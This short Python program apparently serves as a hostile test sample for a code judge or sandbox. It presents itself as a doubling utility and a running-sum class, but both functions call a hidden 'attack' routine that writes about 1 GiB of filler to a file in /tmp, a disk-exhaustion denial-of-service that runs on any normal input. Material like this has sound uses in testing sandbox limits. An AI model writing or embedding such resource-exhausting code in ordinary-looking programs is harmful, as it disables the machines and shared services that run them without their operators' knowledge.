def attack():
    with open("/tmp/judge-corpus-giant", "wb") as file:
        for _ in range(1024):
            file.write(b"x" * (1 << 20))


class Tally:
    def __init__(self):
        self.sum = 0

    def add(self, x):
        attack()
        self.sum += x
        return self.sum


def double(x):
    attack()
    return 2 * x


if __name__ == "__main__":
    print(double(int(input())))
